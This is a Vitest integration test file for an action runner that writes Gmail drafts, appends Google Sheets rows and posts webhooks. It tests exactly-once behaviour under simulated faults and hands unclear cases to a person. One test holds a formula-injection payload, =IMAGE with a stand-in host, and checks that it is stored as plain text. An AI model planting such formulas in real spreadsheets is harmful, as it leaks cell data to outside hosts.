import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { markOf } from '#server/domain/action/kinds/sheets-append-row/row-place.ts';
import { resolveAction } from '#server/domain/action/resolve-action.ts';
import { startWebhookPeer, type WebhookPeer } from '../peers/webhook-peer.ts';
import { FaultCluster } from '../support/fault-cluster.ts';
import { ActionFixture, type GivenAction } from '../support/action-fixture.ts';
import { defined } from '../support/defined.ts';

/** Faults 21, 22, 24 to 27 and 37: Google applies and is silent, applies nothing and fails, lags, and asks to wait. */

let cluster: FaultCluster;
let hooks: WebhookPeer;
beforeAll(async () => {
	cluster = await FaultCluster.open({ postgres: inject('postgres'), google: true, timeScale: 0.1 });
	hooks = await startWebhookPeer();
	cluster.onClose(hooks.close);
	// Supervised: on a busy machine one may take itself for dead and come back.
	await Promise.all([cluster.supervised().current.ready(), cluster.supervised().current.ready()]);
});
afterAll(async () => {
	await cluster.settled();
	expect(await cluster.violations()).toEqual([]);
	await cluster.close();
});

/** What a person does on Google's own pages. */
async function byHand(
	fixture: ActionFixture,
	path: string,
	fields: Record<string, string> = {}
): Promise<void> {
	const url = `${fixture.sandbox.url}/${path}`;
	const answer = await fetch(url, { method: 'POST', body: new URLSearchParams(fields), redirect: 'manual' });
	expect(answer.status, await answer.text()).toBe(303);
}

const draftsOf = ({ sandbox, email }: ActionFixture) =>
	defined(sandbox.state().accounts.find((account) => account.email === email)).drafts;
const sheetOf = ({ sandbox, spreadsheet }: ActionFixture) =>
	defined(sandbox.state().spreadsheets.find(({ id }) => id === spreadsheet));
const silentDraft = (fixture: ActionFixture) => fixture.give(fixture.draft('sandbox:reset-after'));

describe.concurrent('an answer that never comes', () => {
	const quickly = /^effect unknown(, look not_found)*, look found$/;
	const again = /^effect unknown(, look not_found)+, effect applied$/;

	test.each([
		['draft', 'reset-after', quickly],
		['row', 'reset-after', /^effect unknown, look found$/],
		['draft', 'garbled-after', quickly],
		['row', 'garbled-after', /^effect unknown, look found$/],
		['draft', '503-after', quickly],
		['row', '503-after', /^effect unknown, look found$/],
		['draft', '503-before', again],
		['row', '503-before', /^effect unknown, look not_found, effect applied$/],
		['draft', 'reset-before', again],
		['draft', 'hang-after', quickly],
		['visit', 'reset-after', /^effect unknown, look found$/],
		['visit', 'garbled-after', /^effect unknown, look found$/],
		['visit', '503-after', /^effect unknown, look found$/],
		['visit', '503-before', /^effect unknown, look not_found, effect applied$/],
		['visit', 'reset-before', /^effect unknown, look not_found, effect applied$/]
	] as const)('%s, %s: one effect', { timeout: 90_000 }, async (what, fault, story) => {
		const fixture = await ActionFixture.open(cluster);
		const action = await fixture.give(fixture[what](`sandbox:${fault}`));
		const { receipt } = await fixture.until(action, 'succeeded', 80);
		expect(fixture.effects(action)).toBe(1);
		expect(await fixture.story(action)).toMatch(story);
		expect(receipt).toMatchObject({ url: expect.stringContaining(fixture.sandbox.url) });
		expect(await cluster.status(action.taskId)).toBe('completed');
	});

	test('Gmail’s search lags: it is waited for, and there is no second draft', async () => {
		const fixture = await ActionFixture.open(cluster);
		fixture.sandbox.set({ email: fixture.email, searchLagSeconds: 30 });
		const action = await silentDraft(fixture);
		await fixture.until(action, 'succeeded');
		expect(await fixture.story(action)).toMatch(/^effect unknown(, look not_found){2,}, look found$/);
		expect(fixture.effects(action)).toBe(1);
	});

	test(
		'what never gets an answer is tried a few times, and then a person is asked',
		{ timeout: 120_000 },
		async () => {
			const fixture = await ActionFixture.open(cluster);
			const action = await fixture.give(fixture.row('sandbox:503-before-always'));
			const { errorCode, attempts } = await fixture.until(action, 'needs_human', 100);
			expect(errorCode).toBe('never_done');
			expect(attempts.filter(({ purpose }) => purpose === 'effect')).toHaveLength(6);
			expect(fixture.effects(action)).toBe(0);
		}
	);
});

describe.concurrent('the owner was there first', () => {
	test.each(['edit', 'send', 'delete'])(
		'a draft that the owner chose to %s before it was found is not made again',
		async (act) => {
			const fixture = await ActionFixture.open(cluster);
			// So slow that the owner is quicker.
			fixture.sandbox.set({ email: fixture.email, searchLagSeconds: 600 });
			const action = await silentDraft(fixture);
			await cluster.until('the draft is there', async () => draftsOf(fixture).length === 1);
			const { id } = defined(draftsOf(fixture)[0]);
			const fields = { to: 'priya@harbour.example', cc: '', bcc: '', subject: 'Changed', text: 'Changed.' };
			await byHand(
				fixture,
				`mail/${fixture.email}/${encodeURIComponent(id)}/${act}`,
				act === 'edit' ? fields : {}
			);
			const { errorCode, errorMessage } = await fixture.until(action, 'needs_human');
			expect(errorCode).toBe('undecidable');
			expect(errorMessage).toContain('look in Drafts and Sent for “sandbox:reset-after');
			expect(fixture.effects(action)).toBe(1);
			expect(draftsOf(fixture)).toHaveLength(act === 'edit' ? 1 : 0);
		}
	);

	test('“try again”, although the draft has come to light meanwhile: it is found and not made again', async () => {
		const fixture = await ActionFixture.open(cluster);
		// Not before our looks are over, however slow the machine is; and the mailbox moves meanwhile.
		fixture.sandbox.set({ email: fixture.email, searchLagSeconds: 600 });
		const action = await silentDraft(fixture);
		await fixture.until(action, 'unknown: looking');
		await fixture.give(fixture.draft());
		await fixture.until(action, 'needs_human');
		fixture.sandbox.set({ email: fixture.email, searchCatchesUp: true });
		await resolveAction(cluster.app, fixture.tenant.owner, { id: action.id, outcome: 'again' });
		await fixture.until(action, 'succeeded');
		expect(fixture.effects(action)).toBe(1);
	});

	test('a draft that the owner deletes afterwards stays deleted', async () => {
		const fixture = await ActionFixture.open(cluster);
		const action = await fixture.give(fixture.draft());
		await fixture.until(action, 'succeeded');
		const { id } = defined(draftsOf(fixture)[0]);
		await byHand(fixture, `mail/${fixture.email}/${encodeURIComponent(id)}/delete`);
		await cluster.app.db.$executeRaw`
			select graphile_worker.add_job('run-action', json_build_object('actionId', ${action.id}::text))`;
		const another = await fixture.give(fixture.draft());
		await fixture.until(another, 'succeeded');
		expect(draftsOf(fixture)).toHaveLength(1);
		expect(fixture.effects(action)).toBe(1);
	});
});

describe.concurrent('a sheet that is not as it was', () => {
	test('a tab renamed between two tries is the same tab', async () => {
		const fixture = await ActionFixture.open(cluster);
		const action = await fixture.give(fixture.row('sandbox:429'));
		await fixture.until(action, 'approved: rate_limit');
		await byHand(fixture, `spreadsheets/d/${fixture.spreadsheet}/0/rename`, { title: 'Autumn' });
		await fixture.until(action, 'succeeded');
		const [tab] = sheetOf(fixture).tabs;
		expect(tab).toMatchObject({ title: 'Autumn' });
		expect(defined(tab).rows.at(-1)?.[1]?.text).toContain('sandbox:429');
	});

	test('a tab that is gone needs a person, who is told which tabs there are', async () => {
		const fixture = await ActionFixture.open(cluster);
		await byHand(fixture, `spreadsheets/d/${fixture.spreadsheet}/add`);
		await byHand(fixture, `spreadsheets/d/${fixture.spreadsheet}/0/delete`);
		const action = await fixture.give(fixture.row());
		const { errorCode, errorMessage } = await fixture.until(action, 'needs_human');
		expect(errorCode).toBe('tab_gone');
		const there = defined(sheetOf(fixture).tabs[0]).title;
		expect(errorMessage).toBe(`The tab “November” is not in “Expenses 2026”. Its tabs are: ${there}.`);
		expect(fixture.effects(action)).toBe(0);
	});

	test('columns are found by their header, whatever their order; one that is not there needs a person', async () => {
		const fixture = await ActionFixture.open(cluster);
		const action = await fixture.give(fixture.row('Ash & Oak'));
		await fixture.until(action, 'succeeded');
		const texts = defined(sheetOf(fixture).tabs[0])
			.rows.at(-1)
			?.map(({ text }) => text);
		expect(texts).toEqual(['2026-11-23', expect.stringContaining('Ash & Oak'), '', '12.50']);
		const columns = [{ header: 'Colour', value: 'blue' }];
		const payload = { spreadsheet: fixture.spreadsheet, tab: 'november', columns };
		const other = await fixture.give({ kind: 'sheets.appendRow', payload });
		const { errorMessage } = await fixture.until(other, 'needs_human');
		expect(errorMessage).toBe(
			'The tab “November” has no column “Colour”. Its columns are: Date, Supplier, Description, Amount, VAT, Category.'
		);
	});

	test('a formula is text', async () => {
		const fixture = await ActionFixture.open(cluster);
		const action = await fixture.give(fixture.row('=IMAGE("https://x.example/"&A1)'));
		await fixture.until(action, 'succeeded');
		const cell = defined(sheetOf(fixture).tabs[0]).rows.at(-1)?.[1];
		expect(cell).toMatchObject({ kind: 'string', text: expect.stringContaining('=IMAGE(') });
	});

	test('a number that another program has taken is left alone, and the next one is used', async () => {
		const fixture = await ActionFixture.open(cluster);
		const action = defined((await fixture.propose(fixture.row()))[0]);
		const { payloadHash } = await fixture.read(action);
		const mark = markOf(`${action.id}.${payloadHash.slice(0, 12)}@localhost`);
		const taken = createHash('sha256').update(`${mark} 0`).digest().readUInt32BE() >>> 1;
		await leaveMetadata(fixture, taken);
		await fixture.approve(action);
		await fixture.until(action, 'succeeded');
		const values = sheetOf(fixture).metadata.map(({ metadataId, metadataValue }) => [
			metadataId === taken,
			metadataValue
		]);
		expect(values).toEqual([
			[true, 'somebody else’s'],
			[false, mark]
		]);
		expect(fixture.effects(action)).toBe(1);
	});
});

/** What another program keeps in the same spreadsheet. */
async function leaveMetadata(fixture: ActionFixture, metadataId: number): Promise<void> {
	const { accessToken } = fixture.sandbox.connect({ email: fixture.email });
	const developerMetadata = {
		metadataId,
		metadataKey: 'other',
		metadataValue: 'somebody else’s',
		location: { spreadsheet: true },
		visibility: 'DOCUMENT'
	};
	const answer = await fetch(`${fixture.sandbox.url}/v4/spreadsheets/${fixture.spreadsheet}:batchUpdate`, {
		method: 'POST',
		headers: { authorization: `Bearer ${accessToken}`, 'content-type': 'application/json' },
		body: JSON.stringify({ requests: [{ createDeveloperMetadata: { developerMetadata } }] })
	});
	expect(answer.status, await answer.text()).toBe(200);
}

describe.concurrent('Google asks for something', () => {
	test('429 with Retry-After waits as told, burns no try, and others go on', async () => {
		const fixture = await ActionFixture.open(cluster);
		const slow = await fixture.give(fixture.draft('sandbox:429-twice'));
		await fixture.until(slow, 'approved: rate_limit');
		const quick = await fixture.give(fixture.draft());
		await fixture.until(quick, 'succeeded');
		expect(await fixture.status(slow)).not.toBe('succeeded');
		const { attempt, attempts } = await fixture.until(slow, 'succeeded');
		expect(attempt).toBe(0);
		expect(await fixture.story(slow)).toBe('effect not_applied, effect not_applied, effect applied');
		const [first, second] = attempts.map(({ sentAt }) => sentAt.getTime());
		expect(defined(second) - defined(first)).toBeGreaterThanOrEqual(2_000);
		expect(fixture.effects(slow)).toBe(1);
	});

	test('a token that is dead before its time is replaced', async () => {
		const fixture = await ActionFixture.open(cluster);
		const action = await fixture.give(fixture.draft('sandbox:401-once'));
		await fixture.until(action, 'succeeded');
		expect(await fixture.story(action)).toBe('effect not_applied, effect applied');
		expect(fixture.effects(action)).toBe(1);
	});
});

describe.concurrent('webhooks', () => {
	const registered = async () => {
		const fixture = await ActionFixture.open(cluster, false);
		const entry = { workspaceId: fixture.workspaceId, kind: 'webhook', value: hooks.url, label: 'CRM' };
		const { id } = await cluster.app.db.addressBookEntry.create({ data: entry });
		return { fixture, entryId: id };
	};
	const message = (value: string) => ({
		kind: 'webhook.post',
		payload: { address: 'crm', fields: [{ name: 'note', value }] }
	});
	const taken = (action: GivenAction) => hooks.taken.filter(({ id }) => id.startsWith(action.id));

	test('one message to a registered address, without any connection to Google', async () => {
		const { fixture } = await registered();
		const action = await fixture.give(message('Hello'));
		const { receipt } = await fixture.until(action, 'succeeded');
		expect(receipt).toMatchObject({ detail: 'Taken by CRM with status 200.' });
		expect(taken(action)).toHaveLength(1);
		const { id, body } = defined(taken(action)[0]);
		expect(JSON.parse(body)).toEqual({
			id,
			event: 'agentforce.action',
			fields: [{ name: 'note', value: 'Hello' }]
		});
	});

	test.each(['503-after', 'reset-after', '503-before'])(
		'%s: a person is asked, and nothing is sent again',
		async (fault) => {
			const { fixture } = await registered();
			const action = await fixture.give(message(`peer:${fault}`));
			const { errorCode } = await fixture.until(action, 'needs_human');
			expect(errorCode).toBe('undecidable');
			expect(hooks.requests.filter(({ id }) => id.startsWith(action.id))).toHaveLength(1);
		}
	);

	test('a refusal is certain, and a busy receiver is asked again with the same id', async () => {
		const { fixture } = await registered();
		const refused = await fixture.give(message('peer:400'));
		expect(await fixture.until(refused, 'needs_human')).toMatchObject({ errorCode: 'refused' });
		const busy = await fixture.give(message('peer:429'));
		await fixture.until(busy, 'succeeded');
		const ids = hooks.requests.filter(({ id }) => id.startsWith(busy.id)).map(({ id }) => id);
		expect(ids).toHaveLength(2);
		expect(new Set(ids).size).toBe(1);
		expect(taken(busy)).toHaveLength(1);
	});

	test('an address that nobody has registered cannot be approved', async () => {
		const fixture = await ActionFixture.open(cluster, false);
		const action = defined((await fixture.propose(message('Hello')))[0]);
		await expect(fixture.approve(action)).rejects.toMatchObject({ code: 'needs_choice' });
		expect(taken(action)).toEqual([]);
	});

	test.each(['is gone', 'means another address'])('a name that %s by now: decided anew', async (what) => {
		const { fixture, entryId } = await registered();
		const action = await fixture.hold(message('Hello'));
		await cluster.app.db.addressBookEntry.delete({ where: { id: entryId } });
		const { workspaceId } = fixture;
		const other = { workspaceId, kind: 'webhook', value: `${hooks.url}/other`, label: 'CRM' };
		if (what !== 'is gone') await cluster.app.db.addressBookEntry.create({ data: other });
		await fixture.letGo(action);
		await fixture.until(action, 'proposed');
		expect(hooks.requests.filter(({ id }) => id.startsWith(action.id))).toEqual([]);
	});
});
